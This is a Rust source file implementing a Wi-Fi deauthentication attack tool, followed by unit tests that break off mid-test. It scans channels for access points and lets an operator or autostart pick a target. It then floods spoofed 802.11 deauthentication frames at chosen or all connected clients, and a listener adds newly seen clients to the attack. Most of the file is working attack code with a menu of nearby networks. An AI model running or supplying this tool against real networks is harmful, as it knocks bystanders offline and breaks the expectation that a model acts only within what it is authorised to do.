//! Deauthentication interceptor
//!
//! State machine: Setup -> Scan -> Target-Selection -> Attack -> Abort.
//!
//! Setup validates operator filters and (optionally) flips the interface
//! into monitor mode. The scan hops the candidate channels, passively
//! sniffing beacons and probe responses into a per-band SSID book. After the
//! operator (or autostart) locks in a target, three workers run until the
//! shared abort token trips: the deauth send loop, the client listener and
//! the status reporter.

use super::frames::{frequency_to_channel, Band, DeauthFrame, SniffedFrame};
use super::output::{self, DELIM, LINE_WIDTH};
use super::radio::{self, Radio};
use super::ssid::Ssid;
use parking_lot::Mutex;
use std::collections::{BTreeMap, HashMap};
use std::io::BufRead;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tracing::{debug, error, warn};
use netstress_core::{AbortToken, Error, Interface, MacAddr, Result};

/// Status block refresh cadence
const STATUS_INTERVAL: Duration = Duration::from_secs(1);

/// Pacing applied to the deauth loop while sends are failing
const DEAUTH_INTERVAL: Duration = Duration::from_millis(100);

/// Passive sniff time per channel during the scan
const CHANNEL_SNIFF_TIMEOUT: Duration = Duration::from_secs(2);

/// Consecutive-failure time budget before the whole run is aborted
const FAILED_SEND_BUDGET: Duration = Duration::from_secs(5);

/// How many channels past the target's last-seen channel the scan may move
/// before short-circuiting (overlap avoidance for named-SSID searches)
const SCAN_OVERLAP_SLACK: u16 = 2;

/// Fixed number of lines in the status block
const STATUS_LINES: usize = 6;

/// Column pad for the target menu
const SSID_STR_PAD: usize = 42;

/// Raw 802.11 frame injection seam
pub trait FrameTx: Send + Sync {
    fn send_frame(&self, frame: &[u8]) -> Result<()>;
}

impl FrameTx for Interface {
    fn send_frame(&self, frame: &[u8]) -> Result<()> {
        self.send_raw(frame)
    }
}

/// Passive sniffing seam.
///
/// Implementations deliver classified frames to the callback until the
/// timeout elapses (when one is given) or the abort token trips. Frame
/// decoding itself is an external capability.
pub trait Sniffer: Send + Sync {
    fn sniff(
        &self,
        timeout: Option<Duration>,
        abort: &AbortToken,
        callback: &mut dyn FnMut(&SniffedFrame),
    ) -> Result<()>;
}

/// Operator-supplied interceptor configuration
#[derive(Debug, Clone, Default)]
pub struct InterceptorConfig {
    pub interface: String,
    /// Assume monitor mode is already enabled
    pub skip_monitor_mode_setup: bool,
    /// Stop a conflicting NetworkManager service during setup (best-effort)
    pub kill_network_manager: bool,
    /// Substring filter on SSID names (case-insensitive)
    pub ssid_name: Option<String>,
    /// Exact BSSID filter
    pub bssid: Option<MacAddr>,
    /// Explicit target clients; non-empty disables broadcast deauth
    pub client_macs: Vec<MacAddr>,
    /// Custom channel subset; empty means all supported channels
    pub channels: Vec<u16>,
    /// Hop over the whole channel set while deauthing instead of staying on
    /// the target's home channel
    pub deauth_all_channels: bool,
    /// Auto-select the target when exactly one AP is found
    pub autostart: bool,
}

impl InterceptorConfig {
    /// Parse a comma-separated client MAC list
    pub fn parse_client_macs(list: &str) -> Result<Vec<MacAddr>> {
        list.split(',')
            .map(|mac| mac.trim().parse())
            .collect::<Result<Vec<MacAddr>>>()
    }

    /// Parse a comma-separated channel list
    pub fn parse_channels(list: &str) -> Result<Vec<u16>> {
        list.split(',')
            .map(|ch| {
                ch.trim()
                    .parse::<u16>()
                    .map_err(|_| Error::invalid_parameter("channels", "expected channel numbers"))
            })
            .collect()
    }
}

/// Deterministic cyclic iterator over a channel set
pub struct ChannelCycle {
    channels: Vec<u16>,
    index: usize,
}

impl ChannelCycle {
    /// `channels` must be non-empty.
    pub fn new(channels: Vec<u16>) -> Self {
        debug_assert!(!channels.is_empty());
        Self { channels, index: 0 }
    }

    /// Next channel in order, wrapping at the end
    pub fn next_channel(&mut self) -> u16 {
        let ch = self.channels[self.index];
        self.index = (self.index + 1) % self.channels.len();
        ch
    }
}

/// Discoveries accumulated during the scan phase
#[derive(Debug, Default)]
struct ScanBook {
    all_ssids: HashMap<Band, HashMap<String, Ssid>>,
    /// Home channel of the filtered SSID when last observed
    last_target_channel: u16,
}

/// The locked-in attack target.
///
/// The chosen SSID snapshot is immutable; the live client list is appended
/// only by the listener thread and snapshotted by the other workers.
pub struct Target {
    pub ssid: Ssid,
    clients: Mutex<Vec<MacAddr>>,
}

impl Target {
    fn new(ssid: Ssid) -> Self {
        let clients = Mutex::new(ssid.clients.clone());
        Self { ssid, clients }
    }
}

/// 802.11 deauthentication interceptor
pub struct Interceptor {
    config: InterceptorConfig,
    radio: Box<dyn Radio>,
    tx: Box<dyn FrameTx>,
    sniffer: Box<dyn Sniffer>,
    abort: AbortToken,
    supported_channels: Vec<u16>,
    book: ScanBook,
    channel_map: BTreeMap<u16, BTreeMap<String, Ssid>>,
    current_channel: AtomicU32,
    attack_loop_count: AtomicU64,
    midrun_buffer: Mutex<Vec<String>>,
    target: Option<Arc<Target>>,
}

impl Interceptor {
    /// Set up the interceptor: monitor mode (fatal on failure), optional
    /// NetworkManager stop (logged on failure), channel enumeration and
    /// filter validation.
    pub fn new(
        config: InterceptorConfig,
        radio: Box<dyn Radio>,
        tx: Box<dyn FrameTx>,
        sniffer: Box<dyn Sniffer>,
    ) -> Result<Self> {
        if !config.skip_monitor_mode_setup {
            output::print_info("Setting up monitor mode...");
            if let Err(e) = radio.enable_monitor_mode() {
                output::print_error("Monitor mode was not enabled properly");
                return Err(e);
            }
            output::print_info("Monitor mode was set up successfully");
        } else {
            output::print_info("Skipping monitor mode setup...");
        }

        if config.kill_network_manager {
            output::print_info("Stopping NetworkManager...");
            if let Err(e) = radio::kill_network_manager() {
                output::print_error(&format!("Failed to stop NetworkManager: {e}"));
            }
        }

        let supported_channels = radio.supported_channels()?;
        debug!(channels = ?supported_channels, "Supported channels");

        if let Some(name) = &config.ssid_name {
            if name.is_empty() {
                return Err(Error::invalid_parameter(
                    "ssid_name",
                    "cannot be an empty string",
                ));
            }
        }

        for ch in &config.channels {
            if !supported_channels.contains(ch) {
                return Err(Error::wireless(format!(
                    "custom channel {} is not supported by the network interface {:?}",
                    ch, supported_channels
                )));
            }
        }

        if !config.client_macs.is_empty() {
            output::print_info(&format!(
                "Disabling broadcast deauth, attacking custom clients instead: {:?}",
                config
                    .client_macs
                    .iter()
                    .map(|m| m.to_string())
                    .collect::<Vec<_>>()
            ));
        } else {
            output::print_info(
                "No custom clients selected, enabling broadcast deauth and attacking all connected clients",
            );
        }
        output::print_info(&format!(
            "De-auth all channels enabled -> {}",
            config.deauth_all_channels
        ));

        Ok(Self {
            config,
            radio,
            tx,
            sniffer,
            abort: AbortToken::new(),
            supported_channels,
            book: ScanBook::default(),
            channel_map: BTreeMap::new(),
            current_channel: AtomicU32::new(0),
            attack_loop_count: AtomicU64::new(0),
            midrun_buffer: Mutex::new(Vec::new()),
            target: None,
        })
    }

    /// Clone of the run's abort token (for signal handlers)
    pub fn abort_token(&self) -> AbortToken {
        self.abort.clone()
    }

    /// Channels this run works over: the custom subset, or everything the
    /// interface supports.
    fn channel_range(&self) -> Vec<u16> {
        if self.config.channels.is_empty() {
            self.supported_channels.clone()
        } else {
            self.config.channels.clone()
        }
    }

    fn current_channel(&self) -> u16 {
        self.current_channel.load(Ordering::Relaxed) as u16
    }

    /// Tune the radio and track the channel; tuning failures are logged,
    /// matching the best-effort channel hopping of the scan.
    fn hop_to_channel(&self, channel: u16) {
        if let Err(e) = self.radio.set_channel(channel) {
            warn!(channel, error = %e, "Failed to set channel");
        }
        self.current_channel.store(channel as u32, Ordering::Relaxed);
    }

    // ==========================================================================
    // Scan phase
    // ==========================================================================

    /// Classify one frame observed during the scan into the SSID book.
    fn classify_scan_frame(
        book: &mut ScanBook,
        config: &InterceptorConfig,
        supported: &[u16],
        current_channel: u16,
        frame: &SniffedFrame,
    ) {
        match frame.kind {
            super::frames::FrameKind::Beacon | super::frames::FrameKind::ProbeResponse => {}
            // Client discovery only runs once a target is locked in.
            _ => return,
        }

        let ap_mac = match frame.addr3 {
            Some(mac) => mac,
            None => return,
        };
        if ap_mac.is_broadcast() {
            return;
        }

        let raw = match &frame.ssid {
            Some(raw) => raw,
            None => return,
        };
        let name = {
            let start = raw.iter().position(|b| *b != 0).unwrap_or(raw.len());
            let end = raw.iter().rposition(|b| *b != 0).map_or(start, |i| i + 1);
            let text = String::from_utf8_lossy(&raw[start..end]).trim().to_string();
            if text.is_empty() {
                ap_mac.to_string()
            } else {
                text
            }
        };

        if let Some(filter) = &config.ssid_name {
            if !name.to_lowercase().contains(&filter.to_lowercase()) {
                return;
            }
        }
        if let Some(bssid) = &config.bssid {
            if ap_mac != *bssid {
                return;
            }
        }

        let freq = match frame.frequency {
            Some(freq) => freq,
            None => return,
        };
        let pkt_ch = frequency_to_channel(freq);
        let band = Band::for_channel(pkt_ch);

        let entry = book
            .all_ssids
            .entry(band)
            .or_default()
            .entry(name.clone())
            .or_insert_with(|| Ssid::new(name, ap_mac, band));
        entry.add_channel(if supported.contains(&pkt_ch) {
            pkt_ch
        } else {
            current_channel
        });

        if config.ssid_name.is_some() {
            if let Some(home) = entry.home_channel() {
                book.last_target_channel = home;
            }
        }
    }

    /// Has the exact filtered SSID name been discovered yet?
    fn found_target_ssid_name(&self) -> bool {
        let filter = match &self.config.ssid_name {
            Some(name) => name,
            None => return false,
        };
        self.book
            .all_ssids
            .values()
            .any(|ssids| ssids.contains_key(filter))
    }

    /// Hop the candidate channels, sniffing each for a bounded window.
    ///
    /// For a named-SSID search the sweep short-circuits once the scan has
    /// moved more than [`SCAN_OVERLAP_SLACK`] channels past the target's
    /// last-seen channel, so an already-located target doesn't cost the full
    /// sweep.
    fn scan_channels_for_aps(&mut self) {
        let channels = self.channel_range();
        output::print_info(&format!(
            "Starting AP scan, please wait... ({} channels total)",
            channels.len()
        ));
        if let Some(name) = &self.config.ssid_name {
            output::print_info(&format!("Scanning for target SSID -> {name}"));
        }

        for (idx, ch) in channels.iter().enumerate() {
            if self.config.ssid_name.is_some()
                && self.found_target_ssid_name()
                && self
                    .current_channel()
                    .saturating_sub(self.book.last_target_channel)
                    > SCAN_OVERLAP_SLACK
            {
                // Past any channel that could overlap the located target.
                return;
            }

            self.hop_to_channel(*ch);
            output::print_info(&format!(
                "Scanning channel {}, remaining -> {}",
                ch,
                channels.len() - (idx + 1)
            ));

            let abort = self.abort.clone();
            let current = *ch;
            let book = &mut self.book;
            let config = &self.config;
            let supported = &self.supported_channels;
            let mut callback = |frame: &SniffedFrame| {
                Self::classify_scan_frame(book, config, supported, current, frame);
            };
            if let Err(e) = self
                .sniffer
                .sniff(Some(CHANNEL_SNIFF_TIMEOUT), &abort, &mut callback)
            {
                error!(channel = current, error = %e, "Sniff failed during scan");
            }

            if self.abort.is_set() {
                return;
            }
        }
    }

    fn ssid_row(name: &str, channel: &str, mac: &str, pref_len: usize) -> String {
        format!(
            "{:<name_w$}{:<ch_w$}{}",
            name,
            channel,
            mac,
            name_w = SSID_STR_PAD.saturating_sub(pref_len),
            ch_w = SSID_STR_PAD / 2
        )
    }

    /// Scan, show the numbered channel-sorted menu and resolve the target.
    ///
    /// Zero discovered APs aborts the run. Autostart picks a sole candidate;
    /// with several candidates it reports the ambiguity and falls back to
    /// the interactive prompt, which re-prompts until a valid menu index is
    /// entered.
    fn start_initial_ap_scan(&mut self, input: &mut dyn BufRead) -> Result<Ssid> {
        self.scan_channels_for_aps();

        for ssids in self.book.all_ssids.values() {
            for (name, ssid) in ssids {
                if let Some(home) = ssid.home_channel() {
                    self.channel_map
                        .entry(home)
                        .or_default()
                        .insert(name.clone(), ssid.clone());
                }
            }
        }

        output::printf(DELIM);
        output::printf(&format!(
            "[   ] {}",
            Self::ssid_row("SSID Name", "Channel", "MAC Address", 6)
        ));

        let mut menu: Vec<Ssid> = Vec::new();
        for (channel, ssids) in &self.channel_map {
            for ssid in ssids.values() {
                menu.push(ssid.clone());
                let pref = format!("[{:>3}] ", menu.len());
                output::printf(&format!(
                    "{pref}{}",
                    Self::ssid_row(
                        &ssid.name,
                        &channel.to_string(),
                        &ssid.bssid.to_string(),
                        pref.len()
                    )
                ));
            }
        }

        if menu.is_empty() {
            Self::abort_run(&self.abort, "No access points were found, quitting...");
            return Err(Error::wireless("no access points found"));
        }

        output::printf(DELIM);

        let mut chosen: Option<usize> = None;
        if self.config.autostart {
            if menu.len() > 1 {
                output::print_error("Cannot autostart!");
                output::print_error(
                    "Found more than 1 access point, try better filters (5GHz vs 2.4GHz, BSSID address...)",
                );
            } else {
                output::print_info("One target was found, autostart was set");
                chosen = Some(1);
            }
        }

        while !matches!(chosen, Some(c) if c >= 1 && c <= menu.len()) {
            output::print_input(&format!("Choose a target from 1 to {}:", menu.len()));
            let mut line = String::new();
            if input.read_line(&mut line)? == 0 {
                return Err(Error::wireless("input closed before a target was chosen"));
            }
            match line.trim().parse::<usize>() {
                Ok(n) => chosen = Some(n),
                Err(_) => output::print_error("Wrong input! please enter an integer"),
            }
        }

        Ok(menu[chosen.unwrap_or(1) - 1].clone())
    }

    // ==========================================================================
    // Attack phase
    // ==========================================================================

    /// Run the interceptor: scan, lock in a target, then drive the deauth
    /// loop, client listener and status reporter until the run is aborted.
    pub fn run(&mut self) -> Result<()> {
        let stdin = std::io::stdin();
        let mut input = stdin.lock();
        self.run_with_input(&mut input)
    }

    /// `run` with an explicit target-selection input source.
    pub fn run_with_input(&mut self, input: &mut dyn BufRead) -> Result<()> {
        let chosen = self.start_initial_ap_scan(input)?;
        let home = chosen
            .home_channel()
            .ok_or_else(|| Error::wireless("target has no observed channel"))?;

        output::print_info(&format!("Attacking target {}", chosen.name));
        output::print_info(&format!("Setting channel -> {home}"));
        self.hop_to_channel(home);
        self.target = Some(Arc::new(Target::new(chosen)));

        output::printf(DELIM);

        let this = &*self;
        std::thread::scope(|s| {
            s.spawn(|| this.run_deauther());
            s.spawn(|| this.listen_for_clients());
            s.spawn(|| this.report_status());
        });

        Ok(())
    }

    /// The clients currently attacked: the explicit operator list, or every
    /// client discovered for the target so far.
    fn target_clients(&self, target: &Target) -> Vec<MacAddr> {
        if !self.config.client_macs.is_empty() {
            self.config.client_macs.clone()
        } else {
            target.clients.lock().clone()
        }
    }

    fn send_deauth_client(&self, ap: MacAddr, client: MacAddr) -> Result<()> {
        // Spoofed AP -> client, then the reverse direction.
        self.tx
            .send_frame(&DeauthFrame::new(client, ap, ap).to_bytes())?;
        self.tx
            .send_frame(&DeauthFrame::new(ap, ap, client).to_bytes())
    }

    fn send_deauth_broadcast(&self, ap: MacAddr) -> Result<()> {
        self.tx
            .send_frame(&DeauthFrame::new(MacAddr::broadcast(), ap, ap).to_bytes())
    }

    fn deauth_iteration(
        &self,
        ap: MacAddr,
        target: &Target,
        cycle: &mut ChannelCycle,
    ) -> Result<()> {
        if self.config.deauth_all_channels {
            let ch = cycle.next_channel();
            self.radio.set_channel(ch)?;
            self.current_channel.store(ch as u32, Ordering::Relaxed);
        }
        self.attack_loop_count.fetch_add(1, Ordering::Relaxed);

        for client in self.target_clients(target) {
            self.send_deauth_client(ap, client)?;
        }
        if self.config.client_macs.is_empty() {
            self.send_deauth_broadcast(ap)?;
        }
        Ok(())
    }

    /// Consecutive failures tolerated before the run is aborted
    fn failure_limit(budget: Duration, interval: Duration) -> u32 {
        (budget.as_millis() / interval.as_millis()) as u32
    }

    /// The deauth send loop.
    ///
    /// Iterations run back-to-back while sends succeed; a failing iteration
    /// sleeps `interval` and bumps the consecutive-failure counter, which a
    /// success resets. Reaching `failure_limit` returns the triggering error.
    fn deauth_loop(&self, interval: Duration, failure_limit: u32) -> Result<()> {
        let target = match &self.target {
            Some(target) => Arc::clone(target),
            None => return Err(Error::wireless("no target selected")),
        };
        let ap = target.ssid.bssid;
        let mut cycle = ChannelCycle::new(self.channel_range());
        let mut failures = 0u32;

        while !self.abort.is_set() {
            match self.deauth_iteration(ap, &target, &mut cycle) {
                Ok(()) => failures = 0,
                Err(e) => {
                    failures += 1;
                    if failures >= failure_limit {
                        return Err(e);
                    }
                    std::thread::sleep(interval);
                }
            }
        }
        Ok(())
    }

    fn run_deauther(&self) {
        output::print_info("Starting de-auth loop...");
        let limit = Self::failure_limit(FAILED_SEND_BUDGET, DEAUTH_INTERVAL);
        if let Err(e) = self.deauth_loop(DEAUTH_INTERVAL, limit) {
            Self::abort_run(&self.abort, &format!("Send failure in de-auth loop: {e}"));
        }
    }

    /// React to one frame seen by the mid-run listener: confirmed clients of
    /// the target AP are appended to the client list exactly once, with a
    /// buffered notice for the status reporter.
    fn handle_client_frame(&self, frame: &SniffedFrame) {
        if !frame.confirms_client() {
            return;
        }
        let target = match &self.target {
            Some(target) => target,
            None => return,
        };
        let ap = match frame.addr3 {
            Some(mac) => mac,
            None => return,
        };
        if ap != target.ssid.bssid {
            return;
        }
        let client = match frame.addr1 {
            Some(mac) => mac,
            None => return,
        };
        if client.is_broadcast() || client == target.ssid.bssid {
            return;
        }

        {
            let mut clients = target.clients.lock();
            if clients.contains(&client) {
                return;
            }
            clients.push(client);
        }

        let in_target_list = self.config.client_macs.is_empty()
            || self.config.client_macs.contains(&client);
        self.midrun_buffer.lock().push(format!(
            "Found new client {client}, adding to target list -> {in_target_list}"
        ));
    }

    fn listen_for_clients(&self) {
        output::print_info("Setting up a listener for new clients...");
        let mut callback = |frame: &SniffedFrame| self.handle_client_frame(frame);
        if let Err(e) = self.sniffer.sniff(None, &self.abort, &mut callback) {
            error!(error = %e, "Client listener terminated");
        }
    }

    /// Print buffered client notices; returns the number of lines emitted.
    fn print_midrun_output(&self) -> usize {
        let buffer = self.midrun_buffer.lock();
        let count = buffer.len();
        for line in buffer.iter() {
            output::print_cmd(line);
        }
        if count > 0 {
            output::printf(DELIM);
            count + 1
        } else {
            0
        }
    }

    fn status_line(label: &str, value: &str) {
        let width = LINE_WIDTH.saturating_sub(4 + label.len());
        output::print_info(&format!("{label}{value:>width$}"));
    }

    fn report_status(&self) {
        let target = match &self.target {
            Some(target) => Arc::clone(target),
            None => return,
        };
        let start = Instant::now();
        output::printf(DELIM);

        while !self.abort.is_set() {
            let buffered = self.print_midrun_output();

            Self::status_line("Target SSID", &target.ssid.name);
            Self::status_line("Channel", &self.current_channel().to_string());
            Self::status_line("MAC addr", &target.ssid.bssid.to_string());
            Self::status_line("Net interface", &self.config.interface);
            Self::status_line(
                "Target clients",
                &self.target_clients(&target).len().to_string(),
            );
            Self::status_line("Elapsed sec", &start.elapsed().as_secs().to_string());

            std::thread::sleep(STATUS_INTERVAL);
            if self.abort.is_set() {
                // might have tripped while sleeping
                break;
            }
            output::clear_lines(STATUS_LINES + buffered);
        }
    }

    // ==========================================================================
    // Abort
    // ==========================================================================

    /// Abort the whole run. Only the first caller takes effect: it lets
    /// in-flight status output settle, prints the message and terminates the
    /// process.
    pub fn abort_run(abort: &AbortToken, msg: &str) {
        if abort.trip() {
            std::thread::sleep(STATUS_INTERVAL.mul_f32(1.1));
            output::printf(DELIM);
            output::print_error(msg);
            std::process::exit(0);
        }
    }

    /// Abort triggered by an interrupt signal
    pub fn user_abort(&self) {
        Self::abort_run(&self.abort, "User asked to stop, quitting...");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dot11::frames::FrameKind;
    use std::collections::VecDeque;
    use std::io::Cursor;

    struct MockRadio {
        supported: Vec<u16>,
        tuned: Mutex<Vec<u16>>,
    }

    impl MockRadio {
        fn new(supported: Vec<u16>) -> Self {
            Self {
                supported,
                tuned: Mutex::new(Vec::new()),
            }
        }
    }

    impl Radio for MockRadio {
        fn supported_channels(&self) -> Result<Vec<u16>> {
            Ok(self.supported.clone())
        }

        fn set_channel(&self, channel: u16) -> Result<()> {
            self.tuned.lock().push(channel);
            Ok(())
        }

        fn enable_monitor_mode(&self) -> Result<()> {
            Ok(())
        }
    }

    /// Sender scripted to fail the first `fail_first` calls; optionally
    /// trips the abort token after the first success.
    struct ScriptedTx {
        calls: AtomicU32,
        fail_first: u32,
        abort_on_success: Mutex<Option<AbortToken>>,
    }

    impl ScriptedTx {
        fn new(fail_first: u32) -> Self {
            Self {
                calls: AtomicU32::new(0),
                fail_first,
                abort_on_success: Mutex::new(None),
            }
        }

        fn calls(&self) -> u32 {
            self.calls.load(Ordering::SeqCst)
        }
    }

    impl FrameTx for ScriptedTx {
        fn send_frame(&self, _frame: &[u8]) -> Result<()> {
            let call = self.calls.fetch_add(1, Ordering::SeqCst) + 1;
            if call <= self.fail_first {
                return Err(Error::wireless("injection failed"));
            }
            if let Some(token) = self.abort_on_success.lock().take() {
                token.trip();
            }
            Ok(())
        }
    }

    /// Sniffer delivering one scripted frame batch per sniff call.
    struct ScriptedSniffer {
        batches: Mutex<VecDeque<Vec<SniffedFrame>>>,
        calls: AtomicU32,
    }

    impl ScriptedSniffer {
        fn new(batches: Vec<Vec<SniffedFrame>>) -> Self {
            Self {
                batches: Mutex::new(batches.into()),
                calls: AtomicU32::new(0),
            }
        }

        fn calls(&self) -> u32 {
            self.calls.load(Ordering::SeqCst)
        }
    }

    // Arc adapters so tests can keep handles to the mocks they hand over.
    struct TxRef(Arc<ScriptedTx>);
    impl FrameTx for TxRef {
        fn send_frame(&self, frame: &[u8]) -> Result<()> {
            self.0.send_frame(frame)
        }
    }

    struct RadioRef(Arc<MockRadio>);
    impl Radio for RadioRef {
        fn supported_channels(&self) -> Result<Vec<u16>> {
            self.0.supported_channels()
        }
        fn set_channel(&self, channel: u16) -> Result<()> {
            self.0.set_channel(channel)
        }
        fn enable_monitor_mode(&self) -> Result<()> {
            self.0.enable_monitor_mode()
        }
    }

    struct SnifferRef(Arc<ScriptedSniffer>);
    impl Sniffer for SnifferRef {
        fn sniff(
            &self,
            timeout: Option<Duration>,
            abort: &AbortToken,
            callback: &mut dyn FnMut(&SniffedFrame),
        ) -> Result<()> {
            self.0.sniff(timeout, abort, callback)
        }
    }

    impl Sniffer for ScriptedSniffer {
        fn sniff(
            &self,
            _timeout: Option<Duration>,
            _abort: &AbortToken,
            callback: &mut dyn FnMut(&SniffedFrame),
        ) -> Result<()> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            let batch = self.batches.lock().pop_front().unwrap_or_default();
            for frame in &batch {
                callback(frame);
            }
            Ok(())
        }
    }

    fn mac(last: u8) -> MacAddr {
        MacAddr::new([0xaa, 0xbb, 0xcc, 0x00, 0x00, last])
    }

    fn beacon(name: &str, bssid: MacAddr, freq: u16) -> SniffedFrame {
        SniffedFrame {
            kind: FrameKind::Beacon,
            addr1: None,
            addr2: Some(bssid),
            addr3: Some(bssid),
            ssid: Some(name.as_bytes().to_vec()),
            frequency: Some(freq),
        }
    }

    fn qos_data(ap: MacAddr, client: MacAddr) -> SniffedFrame {
        SniffedFrame {
            kind: FrameKind::QosData,
            addr1: Some(client),
            addr2: Some(ap),
            addr3: Some(ap),
            ssid: None,
            frequency: None,
        }
    }

    fn base_config() -> InterceptorConfig {
        InterceptorConfig {
            interface: "wlan0".to_string(),
            skip_monitor_mode_setup: true,
            ..Default::default()
        }
    }

    fn make_interceptor(
        config: InterceptorConfig,
        supported: Vec<u16>,
        batches: Vec<Vec<SniffedFrame>>,
        tx: Arc<ScriptedTx>,
    ) -> Interceptor {
        Interceptor::new(
            config,
            Box::new(RadioRef(Arc::new(MockRadio::new(supported)))),
            Box::new(TxRef(tx)),
            Box::new(SnifferRef(Arc::new(ScriptedSniffer::new(batches)))),
        )
        .unwrap()
    }

    fn target_from(name: &str, bssid: MacAddr, channel: u16) -> Arc<Target> {
        let mut ssid = Ssid::new(name.to_string(), bssid, Band::Ghz24);
        ssid.add_channel(channel);
        Arc::new(Target::new(ssid))
    }

    #[test]
    fn test_channel_cycle_wraps_in_order() {
        let mut cycle = ChannelCycle::new(vec![1, 6, 11]);
        let observed: Vec<u16> = (0..7).map(|_| cycle.next_channel()).collect();
        assert_eq!(observed, vec![1, 6, 11, 1, 6, 11, 1]);
    }

    #[test]
    fn test_failure_limit_is_fifty_at_default_interval() {
        assert_eq!(
            Interceptor::failure_limit(FAILED_SEND_BUDGET, DEAUTH_INTERVAL),
            50
        );
    }

    #[test]
    fn test_parse_client_macs() {
        let macs =
            InterceptorConfig::parse_client_macs("00:11:22:33:44:55, AA-BB-CC-DD-EE-FF").unwrap();
        assert_eq!(macs.len(), 2);
        assert_eq!(macs[1].to_string(), "aa:bb:cc:dd:ee:ff");

        assert!(InterceptorConfig::parse_client_macs("junk").is_err());
    }

    #[test]
    fn test_parse_channels() {
        assert_eq!(
            InterceptorConfig::parse_channels("1, 6,11").unwrap(),
            vec![1, 6, 11]
        );
        assert!(InterceptorConfig::parse_channels("1,x").is_err());
    }

    #[test]
    fn test_custom_channels_must_be_supported() {
        let config = InterceptorConfig {
            channels: vec![99],
            ..base_config()
        };
        let result = Interceptor::new(
            config,
            Box::new(MockRadio::new(vec![1, 6, 11])),
            Box::new(ScriptedTx::new(0)),
            Box::new(ScriptedSniffer::new(vec![])),
        );
        assert!(result.is_err());
    }

    #[test]
    fn test_empty_ssid_filter_is_rejected() {
        let config = InterceptorConfig {
            ssid_name: Some(String::new()),
            ..base_config()
        };
        let result = Interceptor::new(
            config,
            Box::new(MockRadio::new(vec![1])),
            Box::new(ScriptedTx::new(0)),
            Box::new(ScriptedSniffer::new(vec![])),
        );
        assert!(result.is_err());
    }

    #[test]
    fn test_scan_builds_ssid_book_and_menu() {
        let batches = vec![
            vec![beacon("CoffeeShop", mac(1), 2412)],
            vec![beacon("HomeNet", mac(2), 2437)],
            vec![],
        ];
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], batches, tx);

        let mut input = Cursor::new(b"1\n".to_vec());
        let chosen = interceptor.start_initial_ap_scan(&mut input).unwrap();

        // Menu is channel-sorted: CoffeeShop (ch 1) before HomeNet (ch 6).
        assert_eq!(chosen.name, "CoffeeShop");
        assert_eq!(chosen.home_channel(), Some(1));
        assert_eq!(interceptor.channel_map.len(), 2);
        assert!(interceptor.channel_map[&6].contains_key("HomeNet"));
    }

    #[test]
    fn test_scan_reprompts_on_invalid_input() {
        let batches = vec![
            vec![beacon("CoffeeShop", mac(1), 2412)],
            vec![beacon("HomeNet", mac(2), 2437)],
            vec![],
        ];
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], batches, tx);

        // Garbage, out-of-range, then a valid index.
        let mut input = Cursor::new(b"abc\n0\n2\n".to_vec());
        let chosen = interceptor.start_initial_ap_scan(&mut input).unwrap();
        assert_eq!(chosen.name, "HomeNet");
    }

    #[test]
    fn test_autostart_selects_sole_candidate_without_input() {
        let batches = vec![vec![beacon("OnlyNet", mac(1), 2412)], vec![], vec![]];
        let config = InterceptorConfig {
            autostart: true,
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], batches, tx);

        let mut input = Cursor::new(Vec::new());
        let chosen = interceptor.start_initial_ap_scan(&mut input).unwrap();
        assert_eq!(chosen.name, "OnlyNet");
    }

    #[test]
    fn test_autostart_ambiguity_falls_back_to_prompt() {
        let batches = vec![
            vec![beacon("NetA", mac(1), 2412)],
            vec![beacon("NetB", mac(2), 2437)],
            vec![],
        ];
        let config = InterceptorConfig {
            autostart: true,
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], batches, tx);

        let mut input = Cursor::new(b"1\n".to_vec());
        let chosen = interceptor.start_initial_ap_scan(&mut input).unwrap();
        assert_eq!(chosen.name, "NetA");
    }

    #[test]
    fn test_scan_filters_by_bssid() {
        let batches = vec![
            vec![
                beacon("NetA", mac(1), 2412),
                beacon("NetB", mac(2), 2412),
            ],
            vec![],
            vec![],
        ];
        let config = InterceptorConfig {
            bssid: Some(mac(2)),
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], batches, tx);
        interceptor.scan_channels_for_aps();

        let discovered = &interceptor.book.all_ssids[&Band::Ghz24];
        assert_eq!(discovered.len(), 1);
        assert!(discovered.contains_key("NetB"));
    }

    #[test]
    fn test_scan_filters_by_ssid_substring() {
        let batches = vec![
            vec![
                beacon("HomeNet-5G", mac(1), 2412),
                beacon("CoffeeShop", mac(2), 2412),
            ],
            vec![],
            vec![],
        ];
        let config = InterceptorConfig {
            ssid_name: Some("homenet".to_string()),
            ..base_config()
        };
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(config, vec![1, 6, 11], batches, tx);
        interceptor.scan_channels_for_aps();

        let discovered = &interceptor.book.all_ssids[&Band::Ghz24];
        assert_eq!(discovered.len(), 1);
        assert!(discovered.contains_key("HomeNet-5G"));
    }

    #[test]
    fn test_scan_falls_back_to_bssid_for_hidden_ssid() {
        let hidden = SniffedFrame {
            ssid: Some(vec![0, 0, 0]),
            ..beacon("", mac(7), 2412)
        };
        let batches = vec![vec![hidden], vec![], vec![]];
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], batches, tx);
        interceptor.scan_channels_for_aps();

        let discovered = &interceptor.book.all_ssids[&Band::Ghz24];
        assert!(discovered.contains_key(&mac(7).to_string()));
    }

    #[test]
    fn test_scan_skips_broadcast_bssid() {
        let batches = vec![
            vec![beacon("Ghost", MacAddr::broadcast(), 2412)],
            vec![],
            vec![],
        ];
        let tx = Arc::new(ScriptedTx::new(0));
        let mut interceptor = make_interceptor(base_config(), vec![1, 6, 11], batches, tx);
        interceptor.scan_channels_for_aps();
        assert!(interceptor.book.all_ssids.is_empty());
    }

    #[test]
    fn test_scan_classifies_5ghz_band() {
        let batches = vec![vec![beacon("Net5", mac(3), 5180)], vec![]];
